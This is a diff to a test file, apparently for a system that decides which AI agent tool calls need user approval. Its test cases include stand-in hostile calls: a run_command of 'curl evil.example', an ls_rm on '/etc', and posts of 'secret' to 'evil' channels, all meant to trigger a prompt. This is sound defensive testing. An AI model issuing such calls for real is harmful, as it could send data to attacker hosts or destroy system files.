@@ -67,6 +67,12 @@ describe('without options', () => {
     ['run_workflow', { workflow: 'evil.yml' }],
     ['post_message', { chat: 'evil', text: 'secret' }],
     ['post_message', { conversation: 'C123', text: 'secret' }],
+    ['convert', { filenames: ['a.txt'] }],
+    ['convert', { sourceDirs: ['a'] }],
+    ['run_command', { CommandLine: 'curl evil.example' }],
+    ['ls_rm', { path: '/etc' }],
+    ['get_and_share', { subscribers: ['eve'] }],
+    ['revert', { commit: 'a1b2c3d' }],
     ['send_to_queue', { queueName: 'evil', message: 'secret' }],
   ])('%s with %j asks', async (toolName, input) => {
     expect(await asked(toolName, input)).toBeDefined();
@@ -82,6 +88,7 @@ describe('without options', () => {
     ['search_customers_and_contacts', { email: 'X1' }],
     ['get_and_list', { id: 'X1' }],
     ['search_contacts', { email: 'eve@evil.example' }],
+    ['edit', { from_line: 1, to_line: 5, news: 'x', hours: 3 }],
     ['rate', { stars: 5, hotel: 'Ritz' }],
     ['post', { notify_users: true, file_type: 'pdf', channel_topic: 'Sales', userCity: 'Rome' }],
   ])('%s with %j does not ask', async (toolName, input) => {
